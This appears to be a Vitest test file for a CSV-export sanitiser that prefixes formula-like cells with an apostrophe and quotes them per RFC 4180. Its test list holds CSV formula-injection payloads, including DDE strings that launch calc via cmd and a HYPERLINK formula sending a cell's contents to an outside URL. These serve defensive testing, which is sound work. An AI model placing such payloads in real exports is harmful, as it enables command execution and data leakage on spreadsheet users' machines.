import { describe, expect, it } from 'vitest';
import { csvCell, isPlainNumber, neutraliseFormula } from '../../../src/core/contract/csv-cell.js';

describe('a safe CSV cell', () => {
  it('puts an apostrophe before every text a spreadsheet would run as a formula', () => {
    const attacks = [
      '=HYPERLINK("https://example.org/?"&A1,"klik")',
      '=1+1',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\tgewoon met tab',
      '  =1+1',
      '\u00a0=1+1',
      '＝1+1',
      '- niet te veel registreren',
      '+31 6 12345678',
      '-',
      '@',
    ];
    for (const text of attacks) expect(neutraliseFormula(text), text).toBe(`'${text}`);
  });

  it('keeps plain numbers numeric, with either decimal mark and a sign', () => {
    for (const text of ['-0.38', '-0,38', '+12', '12', '0.5', '-1.234,5', '1e-5', '-3E+2', '63,4%', '-.5']) {
      expect(isPlainNumber(text), text).toBe(true);
      expect(neutraliseFormula(text), text).toBe(text);
    }
    for (const text of ['-', '+', '-1-1', '=1', '-1+cmd', '1,2,3,4x', '--1']) {
      expect(isPlainNumber(text), text).toBe(false);
    }
  });

  it('leaves other texts alone', () => {
    for (const text of [
      'Huisartsen',
      'Verpleegkundigen psychiatrie, ggz',
      'a=b',
      'mail@example.org',
      '',
      ' ',
    ]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('quotes by RFC 4180 after neutralising, and writes numbers and missing values as they are', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('Zei "ja"')).toBe('"Zei ""ja"""');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('regel\nregel')).toBe('"regel\nregel"');
    expect(csvCell(-0.38)).toBe('-0.38');
    expect(csvCell(1 / 3)).toBe('0.333333');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('-0,38')).toBe('"-0,38"');
  });
});
